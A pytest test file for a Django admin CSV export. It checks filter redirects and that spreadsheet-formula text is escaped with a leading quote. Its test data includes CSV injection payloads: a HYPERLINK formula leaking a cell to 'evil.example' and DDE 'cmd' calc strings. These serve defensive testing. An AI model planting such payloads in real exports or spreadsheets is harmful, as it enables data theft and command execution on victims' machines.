"""Exports answer a filter that does not apply as their changelist does, and never hand a
spreadsheet a formula: cells that would run are neutralised, numbers keep their sign."""

import pytest
import tablib
from django.contrib import admin
from django.test import override_settings
from import_export.admin import ExportMixin
from import_export.formats.base_formats import CSV

from integrations.commerce.services.stock import stock_adjust
from integrations.commerce.tests.admin_helpers import admin_url, csv_rows, export_data
from integrations.commerce.tests.factories import ProductFactory
from integrations.core.admin import CompanyScopedImportExportMixin
from integrations.core.exports import formula_neutralised

pytestmark = pytest.mark.django_db

EXPORTABLE = ["product", "stocklevel", "stockledgerentry", "order", "return"]
FORMULAE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "==1+1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width =
]


@pytest.mark.parametrize("model", EXPORTABLE)
@pytest.mark.parametrize("query", ["company__id__exact={company}", "no_such_field__exact=1"])
def test_an_export_answers_a_filter_that_does_not_apply_as_its_changelist_does(
    merchant_client, alpha, model, query
):
    query = query.format(company=alpha.company.pk)
    changelist = merchant_client.get(f"{admin_url(model, 'changelist')}?{query}")
    page = merchant_client.get(f"{admin_url(model, 'export')}?{query}")
    posted = merchant_client.post(f"{admin_url(model, 'export')}?{query}", {"format": "0", "resource": "0"})

    if changelist.status_code == 302:
        assert changelist["Location"] == f"{admin_url(model, 'changelist')}?e=1"
        assert (page.status_code, page["Location"]) == (302, changelist["Location"])
        assert (posted.status_code, posted["Location"]) == (302, changelist["Location"])
    else:
        assert (changelist.status_code, page.status_code) == (200, 200)


def test_the_stock_exports_with_a_company_filter_redirect_instead_of_failing(merchant_client, alpha):
    # The two that answered 500 (issue 12): StockLevel and the ledger have no `company` field.
    for model in ("stocklevel", "stockledgerentry"):
        response = merchant_client.get(f"{admin_url(model, 'export')}?company__id__exact={alpha.company.pk}")
        assert response.status_code == 302
        assert response["Location"] == f"{admin_url(model, 'changelist')}?e=1"


@pytest.mark.parametrize("text", FORMULAE)
def test_formula_looking_text_is_neutralised_with_a_leading_quote(text):
    assert formula_neutralised(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["-1", "+2.50", "-0.0001", "-1E3", "1200", "", "Anvil = iron", "a-b", 7, None]
)
def test_numbers_and_harmless_text_are_left_as_they_are(value):
    assert formula_neutralised(value) == value


def test_a_product_export_neutralises_formulae_in_text_columns(merchant_client, alpha):
    for index, title in enumerate(FORMULAE):
        ProductFactory(company=alpha.company, sku=f"ALPHA-F{index}", title=title, upc=f"+{index}@x")
    page = merchant_client.get(admin_url("product", "export"))
    response = merchant_client.post(admin_url("product", "export"), export_data(page))

    rows = {row["sku"]: row for row in csv_rows(response.content)}
    for index, title in enumerate(FORMULAE):
        row = rows[f"ALPHA-F{index}"]
        assert row["title"] == f"'{title}"
        assert row["upc"] == f"'+{index}@x"
    assert rows["ALPHA-100"]["title"] == "Alpha Anvil"  # untouched


def test_a_stock_export_keeps_negative_quantities_as_numbers(merchant_client, alpha, merchant):
    # 10 on hand, 11 taken (sold more than counted): -1 on hand, a ledger row of -11.
    stock_adjust(
        product=alpha.product,
        warehouse=alpha.warehouse,
        quantity_change=-11,
        reason="adjustment",
        user=merchant,
    )

    for model, column, expected in (
        ("stocklevel", "on_hand", "-1"),
        ("stockledgerentry", "quantity_change", "-11"),
    ):
        page = merchant_client.get(admin_url(model, "export"))
        rows = csv_rows(merchant_client.post(admin_url(model, "export"), export_data(page)).content)
        assert expected in [row[column] for row in rows], (model, rows)
        assert not any(row[column].startswith("'") for row in rows)


def test_an_order_export_neutralises_a_customer_name_from_a_sale(merchant_client, alpha):
    alpha.order.customer_name = "=cmd|' /C calc'!A0"
    alpha.order.save(update_fields=["customer_name"])
    page = merchant_client.get(admin_url("order", "export"))
    rows = csv_rows(merchant_client.post(admin_url("order", "export"), export_data(page)).content)

    assert [row["customer_name"] for row in rows] == ["'=cmd|' /C calc'!A0"]


def test_every_export_in_the_admin_goes_through_the_neutralising_mixin():
    exporting = [a for a in admin.site._registry.values() if isinstance(a, ExportMixin)]
    assert exporting
    assert all(isinstance(a, CompanyScopedImportExportMixin) for a in exporting), [
        type(a).__name__ for a in exporting if not isinstance(a, CompanyScopedImportExportMixin)
    ]


@override_settings(IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT=True)
def test_the_librarys_own_escape_setting_would_not_do_the_job():
    # Why integrations.core.exports exists: import-export 4.x only drops one leading "=".
    dataset = tablib.Dataset(["==1+1"], ["+cmd|' /C calc'!A0"], ["@SUM(A1:A9)"], headers=["title"])
    exported = CSV().export_data(dataset)
    assert "=1+1" in exported and "+cmd" in exported and "@SUM" in exported
